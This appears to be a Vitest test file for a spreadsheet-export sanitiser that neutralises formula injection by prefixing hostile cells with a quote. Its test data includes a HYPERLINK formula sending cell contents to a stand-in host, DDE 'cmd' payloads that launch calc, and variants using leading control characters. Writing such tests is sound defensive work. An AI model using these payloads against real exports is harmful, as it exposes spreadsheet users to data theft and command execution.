import { describe, expect, it } from 'vitest';
import { readSheetCell, safeSheetCell, safeSheetRow } from './spreadsheet.js';

describe('safeSheetCell (formula injection)', () => {
  it.each([
    ['=HYPERLINK("http://ev.il/?"&A1,"Pay here")', `'=HYPERLINK("http://ev.il/?"&A1,"Pay here")`],
    [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    ['+1+cmd|calc', `'+1+cmd|calc`],
    ['-2+3+cmd|calc', `'-2+3+cmd|calc`],
    ['@SUM(1+1)', `'@SUM(1+1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\n=1+1', `'\n=1+1`],
    ['＝1+1', `'＝1+1`],
    [`'=already quoted`, `''=already quoted`],
  ])('neutralises %j', (hostile, written) => {
    expect(safeSheetCell(hostile)).toBe(written);
    expect(readSheetCell(written)).toBe(hostile);
  });

  it.each(['Orbit 3x3', '', 'a=b', "O'Brien", "'quoted", '3-4 days', '12.50'])('leaves %j as it is', (text) => {
    expect(safeSheetCell(text)).toBe(text);
    expect(readSheetCell(text)).toBe(text);
  });

  it('keeps numbers numbers, also negative amounts written as decimals', () => {
    expect(safeSheetCell(-12.5)).toBe(-12.5);
    expect(safeSheetCell(0)).toBe(0);
    expect(safeSheetCell('-12.50')).toBe('-12.50');
    expect(safeSheetCell('-3')).toBe('-3');
    expect(safeSheetCell('-1e5')).toBe(`'-1e5`);
    expect(safeSheetRow(['=1', -12.5, '-12.50', 'x'])).toEqual([`'=1`, -12.5, '-12.50', 'x']);
  });
});
